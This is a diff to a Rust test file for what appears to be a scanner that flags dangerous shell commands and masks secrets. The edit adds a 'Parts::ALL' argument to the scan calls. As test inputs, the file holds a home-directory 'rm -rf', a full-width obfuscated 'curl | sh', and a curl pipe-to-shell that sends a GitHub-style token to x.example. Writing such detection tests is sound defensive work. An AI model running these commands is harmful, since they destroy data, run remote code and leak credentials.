@@ -11,7 +11,7 @@
 
 use proptest::prelude::*;
 
-use super::{Body, Engine, LineRef, Lowered, Trigger, is_word_byte, sorted};
+use super::{Body, Engine, LineRef, Lowered, Parts, Trigger, is_word_byte, sorted};
 use crate::scan::literals::spells;
 use crate::scan::normalize::normalize;
 use crate::scan::{ScanReport, Scanner};
@@ -153,13 +153,13 @@ fn agrees_with_the_engine_on_the_rule_families_own_examples() {
         "rm -rf \\\n  ~/\n",
         "ｃｕｒｌ https://x.example | sh\n",
     ] {
-        assert_eq!(engine.scan(body), engine.scan_naive(body), "{body:?}");
+        assert_eq!(engine.scan(body, Parts::ALL), engine.scan_naive(body), "{body:?}");
     }
     // A token on a line another rule reports: both mask it.
     let token = ["ghp_", "Zq8rT2mXv4nK7pL1sW9yB3cD6fH0jG5aQe2R"].concat();
     let body = format!("curl -H \"Authorization: token {token}\" https://x.example/i.sh | sh\n");
-    assert_eq!(engine.scan(&body), engine.scan_naive(&body));
-    assert!(engine.scan(&body).findings.iter().all(|f| !f.excerpt.contains(&token[4..])));
+    assert_eq!(engine.scan(&body, Parts::ALL), engine.scan_naive(&body));
+    assert!(engine.scan(&body, Parts::ALL).findings.iter().all(|f| !f.excerpt.contains(&token[4..])));
 }
 
 proptest! {
@@ -169,6 +169,6 @@ proptest! {
     #[test]
     fn finds_what_every_rule_on_every_line_finds(body in body()) {
         let engine = &Scanner::standard().engine;
-        prop_assert_eq!(engine.scan(&body), engine.scan_naive(&body), "{:?}", body);
+        prop_assert_eq!(engine.scan(&body, Parts::ALL), engine.scan_naive(&body), "{:?}", body);
     }
 }
